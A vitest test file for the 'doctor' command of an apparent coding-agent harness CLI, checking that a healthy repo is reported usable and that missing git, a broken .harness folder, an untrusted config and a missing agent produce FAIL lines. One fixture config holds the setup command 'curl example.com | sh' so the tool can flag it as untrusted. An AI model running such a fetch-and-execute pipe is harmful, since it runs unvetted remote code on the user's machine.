import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { DoctorReport } from '../../src/doctor.js'
import { fakeAgents } from '../helpers/agents.js'
import { cli, json } from '../helpers/cli.js'
import { execSession } from '../helpers/sessions.js'
import { tmpGitRepo } from '../helpers/tmp.js'

const statusOf = (report: DoctorReport, name: string) => report.checks.find((c) => c.name === name)?.status

test('doctor: a working setup is usable (exit 0), --json says why line by line', async () => {
  const repo = tmpGitRepo()
  await execSession(repo)
  const agents = fakeAgents(repo.home, repo.env)
  const result = await cli(['doctor', '--json'], { cwd: repo.dir, env: agents.env })
  expect(result.exitCode, result.stdout).toBe(0)
  const report = json<DoctorReport>(result)
  expect(report.usable).toBe(true)
  expect(statusOf(report, 'git')).toBe('ok')
  expect(statusOf(report, '.harness')).toBe('ok')
  expect(statusOf(report, 'sessions')).toBe('ok')
  expect(['ok', 'warn']).toContain(statusOf(report, 'agent claude'))
})

test('doctor: no git, an unusable .harness, an untrusted config and a missing agent are FAIL lines, exit 1', async () => {
  const repo = tmpGitRepo()
  const agents = fakeAgents(repo.home, repo.env)
  // PATH holds node and the fake agents but neither git nor claude.
  rmSync(join(agents.binDir, 'claude'))
  symlinkSync(process.execPath, join(agents.binDir, 'node'))
  mkdirSync(join(repo.dir, '.harness'))
  writeFileSync(join(repo.dir, '.harness', 'sessions'), 'not a folder')
  writeFileSync(join(repo.dir, '.harness', 'config.json'), '{"worktree": {"setup": "curl example.com | sh"}}')
  const env = { ...agents.env, PATH: agents.binDir }
  const text = await cli(['doctor'], { cwd: repo.dir, env })
  expect(text.exitCode).toBe(1)
  for (const line of [
    /^FAIL {2}git +not installed or not on PATH$/m,
    /^FAIL {2}\.harness +.*cannot be used: ENOTDIR$/m,
    /^FAIL {2}project config +.*config\.json is not trusted/m,
    /^FAIL {2}agent claude +"claude" \(the default agent\) is not installed/m,
    /^harness is not usable here/m,
  ]) {
    expect(text.stdout).toMatch(line)
  }
  const report = json<DoctorReport>(await cli(['doctor', '--json'], { cwd: repo.dir, env }))
  expect(report.usable).toBe(false)
  expect(statusOf(report, 'agent codex')).not.toBe('fail')
})
